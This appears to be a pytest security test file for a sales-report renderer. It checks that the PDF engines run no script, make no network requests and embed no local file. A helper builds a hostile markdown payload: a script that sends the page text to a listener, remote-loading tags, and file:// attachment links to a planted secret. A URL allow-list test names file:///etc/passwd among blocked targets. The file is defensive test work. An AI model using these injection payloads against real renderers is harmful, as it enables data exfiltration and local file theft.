"""The printers cannot be used against the machine: a report whose data slipped markup in
runs no script, fetches nothing from the network and embeds no local file, with either
engine (docs/security.md)."""

from __future__ import annotations

import io
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.request import urlopen

import pytest
from bs4 import BeautifulSoup
from conftest import CHROMIUM
from pypdf import PdfReader

from salesops.batch import render

HEADER = {
    "scope": "region:East",
    "period": "2026-09",
    "as_of": "2026-09-30",
    "generated_at": "2026-10-01 08:00",
    "fingerprint": "f" * 12,
}


class Listener:
    """An HTTP server on 127.0.0.1 that records every request it gets."""

    def __init__(self) -> None:
        seen: list[str] = []

        class Record(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                seen.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"ok")

            def do_GET(self) -> None:
                self._answer()

            def do_POST(self) -> None:
                self._answer()

            def log_message(self, *args: object) -> None:
                pass

        self.seen = seen
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Record)
        self.url = f"http://127.0.0.1:{self.server.server_port}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def requests(self) -> list[str]:
        """What arrived, after a control request of our own (which proves the server
        answered all along, and comes after anything the printer sent)."""
        with urlopen(f"{self.url}/control") as answer:
            assert answer.read() == b"ok"
        return [r for r in self.seen if r != "GET /control"]


@pytest.fixture
def listener() -> Iterator[Listener]:
    server = Listener()
    yield server
    server.server.shutdown()
    server.server.server_close()


def hostile_page(listener: Listener, secret: Path) -> str:
    """The probe's payloads, as a report's markdown would carry them, in a real report page."""
    url, file_url = listener.url, secret.as_uri()
    payload = f"""
<script>fetch("{url}/script?text=" + encodeURIComponent(document.body.innerText))</script>
<img src="{url}/img">
<img src="{file_url}">
<iframe src="{url}/iframe"></iframe>
<iframe src="{file_url}"></iframe>
<link rel="stylesheet" href="{url}/stylesheet.css">
<link rel="attachment" href="{file_url}">
<a rel="attachment" href="{file_url}">attachment</a>
<div style="background-image: url('{url}/css-url')">styled</div>
<style>@import url("{url}/import.css");</style>
<object data="{url}/object"></object>
<meta http-equiv="refresh" content="0; url={url}/refresh">
<p>REPORT-BODY-TEXT</p>
"""
    import nbformat  # here, not at the top: its import costs each test process ~2 s

    cell = nbformat.v4.new_markdown_cell(f"# Hostile report\n\n{payload}")
    return render.to_html(nbformat.v4.new_notebook(cells=[cell]), HEADER)


def secret_file(tmp_path: Path) -> tuple[Path, str]:
    token = f"salesops-secret-{uuid.uuid4().hex}"
    path = tmp_path / "smtp.yml"
    path.write_text(f"password: {token}\n")
    path.chmod(0o600)
    return path, token


def inert(pdf: bytes, token: str) -> None:
    """No attachment, and neither the file's text nor its bytes in the PDF."""
    reader = PdfReader(io.BytesIO(pdf))
    assert reader.attachments == {}
    assert token.encode() not in pdf
    text = "".join(page.extract_text() for page in reader.pages)
    assert "REPORT-BODY-TEXT" in text and token not in text  # the page itself printed


def test_the_page_title_names_the_report_scope_and_period_escaped():
    """The browser tab read "Notebook" for every report; a rep's name in it is text."""
    import nbformat

    cell = nbformat.v4.new_markdown_cell("# Sales metrics\n\nBody.")
    nb = nbformat.v4.new_notebook(cells=[cell])
    page = render.to_html(nb, HEADER)
    assert "<title>Sales metrics · region:East · 2026-09</title>" in page
    hostile = render.to_html(nb, {**HEADER, "scope": "rep:<script>alert(1)</script>"})
    assert "<title>Sales metrics · rep:&lt;script&gt;alert(1)&lt;/script&gt; · 2026-09</title>" in (
        hostile
    )


def test_a_chart_is_described_by_its_caption_escaped():
    """nbconvert gave every chart "No description has been provided for this image"."""
    import nbformat

    caption = 'Bookings of <b>"Ann" & co</b> by month'
    png = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
    output = nbformat.v4.new_output(
        "display_data", data={"image/png": png}, metadata={"image/png": {"alt": caption}}
    )
    cell = nbformat.v4.new_code_cell("so.show(trend)", outputs=[output])
    page = render.to_html(nbformat.v4.new_notebook(cells=[cell]), HEADER)
    (image,) = BeautifulSoup(page, "html.parser").select("img")
    assert image["alt"] == caption  # as text: the page holds no <b> element
    assert '<b>"Ann' not in page and "No description" not in page


def test_what_a_printer_may_load():
    assert render.permitted("data:image/png;base64,AAAA")
    assert render.permitted((render.TEMPLATES / "salesops" / "conf.json").as_uri())
    for url in (
        "file:///etc/os-release",
        (render.TEMPLATES / ".." / "render.py").resolve().as_uri(),
        "file://otherhost/etc/passwd",
        "http://127.0.0.1:8866/",
        "https://example.com/x.png",
        "ws://127.0.0.1:1/",
        "ftp://example.com/x",
        "about:blank",
    ):
        assert not render.permitted(url), url


def test_weasyprint_fetches_nothing_and_embeds_no_file(listener, tmp_path, monkeypatch):
    monkeypatch.setenv(render.PDF_ENGINE, "weasyprint")
    secret, token = secret_file(tmp_path)
    pdf = render.to_pdf(hostile_page(listener, secret))
    assert listener.requests() == []
    inert(pdf, token)


def test_chromium_runs_no_script_and_fetches_nothing(listener, tmp_path, monkeypatch):
    monkeypatch.delenv(render.PDF_ENGINE, raising=False)
    if render.browser() is None or not Path(CHROMIUM).exists():
        pytest.skip("chromium is not installed (scripts/system-packages.sh installs it)")
    secret, token = secret_file(tmp_path)
    pdf = render.to_pdf(hostile_page(listener, secret))
    assert listener.requests() == []
    inert(pdf, token)
